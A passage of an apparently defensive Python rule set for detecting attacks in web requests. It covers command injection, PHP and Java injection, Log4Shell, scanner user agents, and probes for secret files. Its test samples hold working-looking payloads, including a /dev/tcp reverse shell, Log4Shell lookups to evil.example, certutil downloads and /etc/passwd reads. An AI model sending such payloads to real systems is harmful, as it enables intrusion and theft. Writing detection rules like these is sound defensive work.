            r"\bbusybox \S|\bbase64 -{1,2}d|\b(?:nc|ncat|netcat) (?:-[a-z]+ \S+ )*-[a-z]*[ec]\b",
            r"\b(?:python|python2|python3|perl|ruby|php|node) -[a-z]*[ecr] ['\"]",
            r"\bcmd(?:\.exe)? /[ck]\b|\bpowershell(?:\.exe)? -(?:e|enc|encodedcommand|c|command|nop|w|ep)\b",
        ),
        VALUES,
        (
            "/get?932236-1=bash%20-c%20%22echo%20test%22",
            "/get?code=%24SHELL%20-c%20%22echo%20hi%22",
            "/get?cmd=printf%20dW5hbWUgLWE=%7Cbase64%20-d%7Csh",
            "/get?cmd=d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F198.51.100.9%2F777",
            "/get?'cmd%3Da%3B%20sh%24XX%20-c%20whoami",
        ),
        ("/blog/fresh-copy", "/get?q=bash+scripting+book"),
    ),
    Rule(
        "rce-command-substitution",
        "rce",
        "Command substitution `$(...)`, backticks and process substitution `<(...)`: the shell runs what is inside.",
        (r"\$\(\s*(?:\)|[a-z_/.])", rf"`\s*(?:`|(?:{_UNIX_COMMANDS})\b)", r"[<>]\(\s*[a-z]"),
        ANYWHERE,
        (
            "/get?932130-18=echo%20%24%28echo%20%24%28cat%20%2Fetc%2Fpasswd%29%29",
            "/get?x=ping``%20127.0.0.1",
            "/get?proc=%3C%28cat%20file%29",
            "/get?x=ping$()%20127.0.0.1",
        ),
        ("/get?price=$(10)", "/get?q=`markdown`"),
    ),
    Rule(
        "rce-shell-expansion",
        "rce",
        "Shell expansions that disguise a command: `${x#...}`, `$[...]`, brace lists `{,ifconfig}`, inserted"
        " variables `c$@at`, quotes inside a name `'i'fconfig`, tilde `~+` and history `!!`.",
        (
            r"\$\{\w+[#%^,~/][^}]*\}|\$\{?ifs\b|\$\[",
            r"\{[^{}\"':\s]*[a-z/?*.][^{}\"':\s]*,[^{}\"':\s]*\}|\{[^{}\"':\s]*,[^{}\"':\s]*[a-z/?*.][^{}\"':\s]*\}",
            r"[a-z]\$(?:[@?*#!_0-9]|\{\w*\})[a-z/]|[a-z]\$[a-z]+[\s/]|[a-z/]\$\{\w*\}[a-z]",
            r"^~[+-][0-9]*$|^!(?:!|-?[0-9]+)$",
            r"(?:^|[ ;|&=])['\"][a-z]{1,3}['\"][a-z]",
        ),
        VALUES,
        (
            "/get?var=%24%7Bx%23%7B%7D%7D",
            "/get?932130-17=$%5B2%2B2%5D",
            "/get?932280-4=%7b%2c%69%66%63%6f%6e%66%69%67%7d",
            "/get?host=www.google.com;c%24%40at%2B%2Fet%24%40c%2Fpas%24%40swd",
            "/get?932270-1=%7E%2B",
            "/get?rce=!!",
            "/get?932290-1=%27i%27fconfig",
        ),
        (
            "/get?pattern=%2F%5Ba-z%5D%7B1%2C5%7D%2F",
            "/get?932281-6=%5B%7B%22value%22:true,%22key%22:%22enabled%22%7D%5D",
            "/scripts//%22$%7BWEBLOC%7D/view.php",
            "/search?q=rock+%27n%27+roll",
            "/get?test=O%27keefe%27s",
        ),
    ),
    Rule(
        "rce-path-glob",
        "rce",
        "A path spelled with shell wildcards (`/???/??t`, `/bin/ca?`, `/etc/pa[s]swd`), so no filter sees its name.",
        (
            r"/(?:[a-z]*[?\[][a-z?*\[\]-]*|[a-z]+\*[a-z?*\[\]-]*)/",
            r"/(?:bin|etc|usr|sbin|tmp|var|dev|proc)/[a-z]*[?*\[]",
        ),
        (QUERY_VALUE, USER_AGENT),
        (
            "/get?vuln=%2F%3F%3F%3F%2F%3F%3Ft",
            "/get?cmd=cat%20/etc/pa%5Bs%5Dswd",
            "/get?exec=/bi%5Bn%5D/bash",
            "/get?host=www.google.com;/bin/ca?+/et*/passwd",
        ),
        ("/get?id=1/**/union", "/get?next=/app/timesheets?week=2026-W48", "/get?x=/*comment*/"),
    ),
    Rule(
        "rce-windows-batch",
        "rce",
        "A Windows batch FOR or IF statement at the start of a value: `FOR /F %a IN (...) DO`, `IF EXIST ...`.",
        (
            r"^[ &|(@]*for(?: /[a-z](?: (?:\"[^\"]*\"|[a-z]:\\\S*))?)* %%?\S+ in ?\(",
            r"^[ &|(@]*if (?:/i )?(?:not )?(?:exist |defined |errorlevel |cmdextversion "
            r"|(?:\"[^\"]*\"|\S+) ?(?:==|(?:equ|neq|lss|leq|gtr|geq) ))",
        ),
        (QUERY_VALUE,),
        (
            "/get?foo=for%20%2fl%20%25variable%20in%20%281%2c1%2c2%29%20do%20command",
            "/get?foo=%26+FOR+%25%25a+IN+%28a%2Cb%2Cc%29+DO+cmd",
            "/get?foo=IF++++++++EXIST+C%3A%5Cpagefile.sys++CMD",
            "/get?foo=if+%22A+A%22+%3D%3D+%22A+A%22+echo+same",
            "/get?foo=IF++++++++%25ERRORLEVEL%25+LEQ+2+++++echo+test",
        ),
        ("/get?foo=iffoo+a%3D%3Db+foo", "/search?q=if+you+like+it", "/get?q=for+loop+in+javascript"),
    ),
    Rule(
        "rce-windows-command",
        "rce",
        "Windows tools attackers run through an injection: regedit, certutil, bitsadmin, mshta, rundll32, wmic.",
        (
            r"\b(?:regedit(?:\.exe)?\s+/|certutil(?:\.exe)?\s+-(?:urlcache|decode|encode)|bitsadmin\s+/transfer"
            r"|mshta(?:\.exe)?\s+(?:https?|javascript|vbscript):|rundll32(?:\.exe)?\s|wmic\s+(?:process|os|useraccount"
            r"|shadowcopy)|vssadmin\s|schtasks\s+/create)",
            r"\bhkey_(?:local_machine|current_user|classes_root|users|current_config)\b",
        ),
        ANYWHERE,
        (
            "/get?cmd%3D%3B%20regedit%20%2FE%20c%3A%5Cads%5Cfile.txt%3Aregfile.reg%20HKEY_CURRENT_USER%5CKey",
            "/get?c=certutil+-urlcache+-f+http://example.com/x.exe",
        ),
        ("/get?cmd=regedit%20", "/blog/registry-editor"),
    ),
    Rule(
        "rce-shellshock",
        "rce",
        "Shellshock: a bash function definition `() { :; };` in a header or parameter that CGI exports.",
        (r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;|^\s*\(\s*\)\s*\{",),
        ANYWHERE,
        ("/cgi-bin/status?x=()%20%7B%20:;%20%7D;%20/bin/cat%20/etc/passwd",),
        ("/get?q=f()+{+return+1+}",),
    ),
    Rule(
        "rce-mail-command",
        "rce",
        "A CRLF followed by an SMTP, POP3 or IMAP command: commands smuggled into a mail or mailbox session.",
        (
            r"\r\n\s*(?:ehlo|helo|mail\s+from|rcpt\s+to|data\s*$|help\s|quit\b|rset\b|vrfy\s|expn\s|auth\s+\w|starttls"
            r"|retr\s+[0-9]|top\s+[0-9]|dele\s+[0-9]|user\s|pass\s|[a-z0-9]+\s+(?:examine|select|login|fetch|store"
            r"|logout|capability|append|uid)\b)",
        ),
        ANYWHERE,
        ("/get?attackme=%0d%0aRCPT%20TO%3A%3CPostmaster%3E", "/get?attackme=%0d%0aa001%20EXAMINE%20INBOX"),
        ("/get?cmd=Go%20to%20store.%0AAt%20the%20store%2C%20shop.", "/get?text=We%20need%20that%20data%20now"),
    ),
    Rule(
        "rce-admin-tool",
        "rce",
        "Configuration-management and admin tools no client sends on its own: ansible, chef-*, cscli, visudo, knife.",
        (
            r"(?:^|[\s'\"=;|&/])(?:ansible(?:-(?:galaxy|inventory|playbook|config|console|doc|pull|vault|test|lint))?"
            r"|chef-(?:shell|vault|client|solo|apply|run|zero)|cscli|visudo|knife|salt-(?:call|run|key))['\"]?(?:\s|$)",
            r"^ ?['\"]?chef['\"]? (?:report|exec|generate|install|push|shell-init|env|export|update|diff)\b",
            r"\bs?bin/(?:chef|cscli|visudo|ansible)\b",
        ),
        VALUES,
        ("/get?a=bin/cscli",),
        ("/get?q=chef+recipes",),
    ),
    Rule(
        "rce-nodejs-injection",
        "rce",
        "Server-side JavaScript: node-serialize functions, child_process, process internals, constructor chains.",
        (
            r"_\$\$nd_func\$\$_|\b__js_function\b|xyqktkrfrlvoqyqk|\bchild_process\b",
            r"\brequire\s*(?:\[|\(\s*['\"`]?(?:child_process|fs|net|vm|os)\b)",
            r"\bprocess\s*\.\s*(?:mainmodule|binding|env\b|dlopen|kill)|\bthis\s*\.\s*constructor\s*\.\s*constructor\b",
            r"\.constructor\s*\.\s*constructor\s*\(|\$[0-9a-z]+:(?:[a-z_]+:)?(?:constructor|__proto__|prototype)\b",
            r"\beval\s*\(\s*string\s*\.\s*fromcharcode|\bfunction\s*\(\s*\)\s*\{|\bconsole\s*\.\s*(?:log|info|warn|error|dir)\s*\(",
        ),
        ANYWHERE,
        ("/get?foo=_%24%24ND_FUNC%24%24_", "/get?foo=this.constructor.constructor", "/get?foo=process.env"),
        ("/get?foo=process.", "/blog/our-process-environment"),
    ),
    Rule(
        "rce-prototype-pollution",
        "rce",
        "`__proto__` or `constructor.prototype` in a parameter: polluting every object of a JavaScript server.",
        (r"\b__proto__\b|\bconstructor\s*(?:\.|\[\s*['\"]?)\s*prototype\b",),
        ANYWHERE,
        ("/get?__proto__[test]=test", "/get?constructor%5Bprototype%5D%5Btest%5D%3Dtest"),
        ("/get?foo=proto", "/docs/constructor-and-prototype"),
    ),
    Rule(
        "rce-js-busy-loop",
        "rce",
        "A JavaScript loop that never ends (`while(true);`) for a server that evaluates it: denial of service.",
        (
            r"\bwhile\s*\(+\s*(?:!*\s*-?0|\+?1|!*\s*nan|\+?infinity|true|this|new\s+date|!!\s*\{\s*\}|!!\s*\[\s*\])"
            r"\s*\)+\s*(?:;|\{|$)",
        ),
        ANYWHERE,
        ("/get?eval=while(true);", "/get?eval=while(!!{});", "/get?eval=while(%2BInfinity);"),
        ("/get?eval=while(!true);", "/get?text=while%20(foo)%20is%20bar."),
    ),
    Rule(
        "rce-perl-ruby-injection",
        "rce",
        "Perl `@{[...]}` interpolation and Ruby process calls (`Process.spawn`, `Kernel.exec`, `%x{}`).",
        (r"@+\{\s*\[", r"\b(?:process\.spawn|kernel\.(?:exec|system|spawn|open)|io\.popen|open3\.\w+)\b|%x\{"),
        ANYWHERE,
        ("/get?x=%40%7B%5Bgetpwuid%28%24%3E%29%5D%7D", "/get?x=Process.spawn(%22id%22)"),
        ("/get?x=%7B%22array%22%3A%5B1%2C2%2C3%5D%7D", "/get?email=user%40example.com"),
    ),
    Rule(
        "rce-template-injection",
        "rce",
        "Server-side template injection: `{{7*7}}`, Jinja `{% ... %}` and ERB/JSP `<% ... %>` tags, Python internals.",
        (
            r"\{\{\s*[0-9]+\s*[*+/-]\s*[0-9]+\s*\}\}|\{\{[^}]*(?:__class__|__globals__|__builtins__|__import__|popen)",
            r"\{%\s*(?:if|for|set|import|include|extends|macro|raw)\b[^}]*%\}",
            r"<%=?\s*(?:if|for|system|exec|`|[0-9]+\s*[*+])",
        ),
        ANYWHERE,
        (
            "/get?x=%7b%7b7*7%7d%7d",
            "/get?x=%7b%25%20%69%66%20%54%72%75%65%20%25%7d%34%39",
            "/get?x=%3c%25%20system(%27id%27)%20%25%3e",
        ),
        ("/get?x=%7b%7busername%7d%7d",),
    ),
    # --- php --------------------------------------------------------------------------------------
    Rule(
        "php-open-tag",
        "php",
        "A PHP open tag (`<?php`, `<?=`, `<? `), a `<?xml` that carries code, or a `[php]` block.",
        (r"<\?(?:php\b|=|\s|$)", r"<\?xml\s+[:(]", r"\[/?php\]"),
        ANYWHERE,
        (
            "/get?cmd=%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E",
            "/get?foo=%3C%3F%3D%20%22test%22",
            "/get?x=test%3C%3F",
            "/get?foo=%3C%3Fxml%20%3Aecho%201%3B",
            "/get?code=%5Bphp%5Decho%20%27test%27%3B%5B%2Fphp%5D",
        ),
        (
            "/get?foo=%3C%3Fxml%20version%3D%221.0%22%20encoding%3D%22UTF-8%22%3F%3E",
            "/get?val=%3C%3Fxb%20echo%201%3B",
            "/get?email=richard.php%40example.com",
        ),
    ),
    Rule(
        "php-superglobal",
        "php",
        "PHP superglobals ($_SERVER, $_GET, $_COOKIE ...) in a value: code that reads the request.",
        (r"\$_(?:server|get|post|cookie|request|files|env|session)\b|\$globals\b",),
        ANYWHERE,
        ("/get?x=$_SERVER['test'];", "/get?%24_COOKIE=value;"),
        ("/get?x=$_SE%20RVER['test'];",),
    ),
    Rule(
        "php-function-call",
        "php",
        "A call to a PHP function that runs commands, decodes payloads, reads files or opens sockets.",
        (
            r"(?:base64_decode|str_rot13|gzinflate|gzuncompress|gzdecode|create_function|call_user_func(?:_array)?"
            r"|preg_replace|file_get_contents|file_put_contents|fsockopen|pfsockopen|shell_exec|proc_open|pcntl_exec"
            r"|passthru|phpinfo|unserialize|highlight_file|show_source|assert_options|posix_[a-z_]+|file_exists"
            r"|filegroup|fopen|fwrite|fputs|readfile|symlink|array_map|ob_start|strip_tags|is_array|checkdate|intval"
            rf"|unpack|serialize|sodium_crypto_[a-z0-9_]+)['\"]?{_CODE_GAP}\(",
            rf"\b(?:eval|assert|system|exec|popen|include|require)(?:_once)?['\"]?{_TIGHT_GAP}\(",
        ),
        ANYWHERE,
        (
            "/get/?test=base64_decode()",
            "/get?foo=FOOfsockopen()",
            "/get?foo=exec%20%2f%2acomment%2a%2f%20%28%29",
            "/get?foo=exec%0A%28%27bar%27%29",
            "/get?x=eval%28chr%28112%29.chr%28104%29",
            "/get?foo=return%22system%22%28xyz%29.s",
        ),
        (
            "/get?foo=exec%20%28",
            "/get?foo=ecosystem%28%29",
            "/get?foo=the%20files%20%28yep%29",
            "/get?q=operating+system+(OS)",
            "/get?a=sodium_add_to_recipe(foo)",
        ),
    ),
    Rule(
        "php-variable-function",
        "php",
        "A function called through a variable, string or array: `$f()`, `${'a'}()`, `'sys'.'tem'`, `[system][0]()`.",
        (
            r"\$\{[^}]*\}\s*\(|@?\$[a-z_]\w*\s*(?:\[[^\]]*\]\s*)*(?:/\*.*?\*/|//[^\n]*\n|\s)*\(|::\$[a-z_]\w*\s*\(",
            r"['\"][a-z_]*['\"]\s*\.\s*['\"][a-z_]*['\"]",
            r"[)\]]\s*(?:/\*.*?\*/\s*|\{[^}]*\}\s*|\[\s*[0-9]+\s*\]\s*)*\(\s*['\"$@`]",
            r"[)\]]\s*(?:/\*.*?\*/\s*|\{[^}]*\}\s*|\[\s*[0-9]+\s*\]\s*)*\([^()]*\)\s*;",
            r"['\"](?:\\x[0-9a-f]{2}|[a-z_])*\\x[0-9a-f]{2}(?:\\x[0-9a-f]{2}|[a-z_])*['\"]\s*\(",
        ),
        (TARGET, REFERRER),
        (
            "/get?foo=%24%7B%27a%27%7D%2811%29",
            "/get?x=%40%24b374k%28%22foo%22%29",
            "/get?x=Foo%3A%3A%24variable%28%29",
            "/get?x=%28system%29%28%27uname%27%29%20%3B",
            "/get?x=%5bsystem%5d%5b0%5d%28ls%29%3B",
            "/get?code=%22%5Cx73y%5Cx73tem%22%28ls%29%3B",
            "/get?x=(+string+)+%22sys%22.%22t%22.%22em%22+(%27uname%27)%3B",
        ),
        (
            "/get?x=%24a%2F%2Ffoo%28%29",
            "/get?x=%5bACME%5d%3a+this+is%2c+%28another%29+test+%28foo%29bar+or+foo%28bar%29.",
            "/search?q=(see+note)+(1)",
        ),
    ),
    Rule(
        "php-wrapper",
        "php",
        "PHP stream wrappers (php://filter, phar://, expect:// ...) and base64 data: URIs that include code.",
        (
            r"\b(?:php|phar|zip|zlib|glob|expect|ogg|rar|ssh2\.(?:shell|exec|tunnel|sftp|scp)|compress\.(?:zlib|bzip2))://",
            r"\bdata:(?://)?[a-z]+/[a-z0-9.+-]+;base64,",
        ),
        ANYWHERE,
        (
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/get?ssrf=data:text/plain;base64,SSBsb3Zl",
        ),
        ("/blog/php-streams",),
    ),
    Rule(
        "php-object-injection",
        "php",
        "A serialised PHP object or array (`O:8:'stdClass':1:{...}` with double quotes) for unserialize().",
        (r"\b[oc]:[0-9]+:\"[a-z_\\][\w\\]*\":[0-9]+:\{", r"\ba:[0-9]+:\{[sibdaon]:"),
        ANYWHERE,
        ("/get/serialize1?foo=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A2%3B%7D",),
        ("/get?ratio=a:1",),
    ),
    # --- java -------------------------------------------------------------------------------------
    Rule(
        "java-jndi-lookup",
        "java",
        "Log4Shell: a `${jndi:...}` lookup, also without its `$` or behind other lookups.",
        (r"\$\{\s*jndi\s*:|\{jndi:", r"\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b"),
        ANYWHERE,
        (
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D",
            "/get?x=%24%7B%3A1337%3A-x%24%7D%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        ),
        ("/blog/what-is-jndi",),
    ),
    Rule(
        "java-lookup-obfuscation",
        "java",
        "Log4j lookups nested or spelled out (`${${lower:j}ndi:`, `${::-j}`, `${env:...}`) to hide a JNDI lookup.",
        (
            r"\$\{[^}]*\$\{",
            r"\$\{(?:lower|upper|env|sys|java|date|base64|main|ctx|marker|bundle|k8s|docker|log4j|spring|web"
            r"|jvmrunargs|event|sd|map)\s*:[^}]*\}|\$\{::-[^}]*\}",
        ),
        ANYWHERE,
        ("/get?x=${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}", "/get?x=${${::-j}${::-n}${::-d}${::-i}:x}"),
        ("/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D", "/get?tpl=${name}"),
    ),
    Rule(
        "java-expression-language",
        "java",
        "Expression-language and OGNL injection: `#{...}`, `${...}` reaching Java classes, `%{(#`, `T(java.lang...)`.",
        (
            r"[#$]\{[^}]*(?:runtime|getclass|classloader|processbuilder|forname|getruntime|@java|java\.lang)",
            r"%\{\s*\(?\s*#|\bt\s*\(\s*java\.|@java\.lang\.|\bclass\.(?:module\.)?classloader\b|\.getclass\s*\(\s*\)",
            r"[#$]\{\s*[0-9]+\s*[*+/-]\s*[0-9]+\s*\}",
        ),
        ANYWHERE,
        ("/get?x=%23%7bruntime.exec(%27id%27)%7d", "/get?name=${7*7}", "/action?redirect:%25%7B(%23a%3D1)%7D"),
        ("/get?tpl=#{name}",),
    ),
    Rule(
        "java-deserialisation",
        "java",
        "Java serialised objects (`rO0AB`, `aced0005`) and gadget classes an attacker wants deserialised.",
        (
            r"\bro0ab|\baced000[0-9a-f]|\bjava\.lang\.(?:runtime|processbuilder|reflect)\b",
            r"\b(?:org\.apache\.commons\.collections|com\.sun\.rowset\.jdbcrowsetimpl|com\.sun\.org\.apache\.xalan"
            r"|org\.springframework\.beans|javax\.naming|ysoserial|templatesimpl)\b|\"@type\"\s*:\s*\"",
        ),
        ANYWHERE,
        (
            "/api/session?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            '/api/json?o={"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        ),
        ("/api/v1/items?sort=rank",),
    ),
    # --- scanner ----------------------------------------------------------------------------------
    Rule(
        "scanner-attack-tool",
        "scanner",
        "User agents that vulnerability scanners, fuzzers, brute forcers and exploit tools send by default.",
        (
            r"\b(?:nikto|sqlmap|nessus|nmap|masscan|zgrab|nuclei|acunetix|netsparker|invicti|w3af|wpscan|dirbuster"
            r"|gobuster|ffuf|feroxbuster|wfuzz|hydra|openvas|arachni|skipfish|whatweb|zmeu|jorgee|morfeus|havij|commix"
            r"|xsstrike|paros|webinspect|appscan|sqlninja|fimap|jaeles|interactsh|dirb|owasp zap|burp\w*|medusa"
            r"|metasploit|ncrack|wapiti|joomscan|droopescan|cmsmap|wprecon|l9explore|l9tcpid|zmap)\b",
        ),
        (USER_AGENT,),
        (
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
            "Mozilla/5.0 zgrab/0.x",
            "nessus",
        ),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "python-httpx/0.27.0"),
    ),
    # --- probe ------------------------------------------------------------------------------------
    Rule(
        "probe-dotfile",
        "probe",
        "Hidden files and folders of tools and developers (.env, .git, .aws, editor and AI-assistant settings).",
        (
            r"^[^?]*/\.(?:env|git|gitignore|gitconfig|git-credentials|svn|hg|bzr|cvs|ds_store|aws|ssh|docker|dockerenv"
            r"|kube|npmrc|yarnrc|pypirc|htaccess|htpasswd|vscode|idea|config|bash_history|zsh_history|netrc|pgpass"
            r"|s3cfg|boto|gcloud|azure|terraform|circleci|github|gitlab-ci\.yml|travis\.yml|claude|cursor|codex|roo"
            r"|cline|kiro|zed|fabric|n8n|aiignore|continue|windsurf|aider[\w.-]*|copilot|gemini)\b",
        ),
        (TARGET,),
        ("/.env", "/.git/config", "/@fs/.env", "/app/.claude/settings.local.json", "/.DS_Store", "/.aws/credentials"),
        ("/.well-known/security.txt", "/static/app.3f9c2a1b.js", "/api/continue/session", "/get?x=/.env"),
    ),
    Rule(
        "probe-cms-admin",
        "probe",
        "Login and set-up pages of CMSs and database tools that a site without them never serves.",
        (
            r"^[^?]*/(?:wp-login\.php|wp-admin\b|xmlrpc\.php|wp-config\.php|wp-includes/|administrator/|admin\.php"
            r"|phpmyadmin|pma/|myadmin|mysqladmin|dbadmin|sqladmin|phppgadmin|adminer[\w.-]*\.php|setup-config\.php"
            r"|install\.php|user/register)",
        ),
        (TARGET,),
        ("/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/administrator/", "/blog/wp-admin/"),
        ("/api/v1/admin/audit", "/admin", "/blog/wordpress-admin-tips"),
    ),
    Rule(
        "probe-server-internals",
        "probe",
        "Status, debug and management endpoints of servers and frameworks (server-status, actuator, _ignition ...).",
        (
            r"^[^?]*/(?:server-status|server-info|actuator|jmx-console|manager/html|web-inf|elmah\.axd|trace\.axd"
            r"|_profiler|_ignition|telescope|debug/pprof|phpinfo\.php|info\.php|console/login|solr/admin|hnap1"
            r"|boaform|cgi-bin|vendor/phpunit|owa/auth|autodiscover/autodiscover\.xml)(?:$|[/?;])",
        ),
        (TARGET,),
        (
            "/server-status",
            "/actuator/env",
            "/cgi-bin/luci/;stok=/locale",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ),
        ("/api/v1/status", "/blog/server-status-codes-explained"),
    ),
    Rule(
        "probe-backup-file",
        "probe",
        "Backups and dumps left in the web root (backup.sql, site.zip, index.php~, config.php.bak).",
        (
            r"^[^?]*\.(?:sql|bak|backup|old|orig|save|sav|swp|dump)(?:$|\?)|^[^?]*~(?:$|\?)",
            r"^[^?]*/(?:backup|backups|dump|database|db|site|www|web|htdocs|public_html|wwwroot|data|export)"
            r"\.(?:zip|tar|tar\.gz|tgz|rar|7z|gz|bz2)(?:$|\?)",
        ),
        (TARGET,),
        ("/backup.sql", "/wp-config.php.bak", "/index.php~", "/site.zip"),
        ("/files/xdotool/xdotool-2.20101014.3063.tar.gz", "/api/v1/reports/hours?format=sql"),
    ),
    Rule(
        "probe-log-file",
        "probe",
        "Application and server logs requested over the web (debug.log, error.log, storage/logs).",
        (
            r"^[^?]*/(?:debug|error|errors|access|php_error|php_errors|laravel|install)\.log(?:$|\?)|^[^?]*/storage/logs/",
        ),
        (TARGET,),
        ("/wp-content/debug.log", "/wp-content/errors.log"),
        ("/misc/sample.log", "/blog/error-logging"),
    ),
)
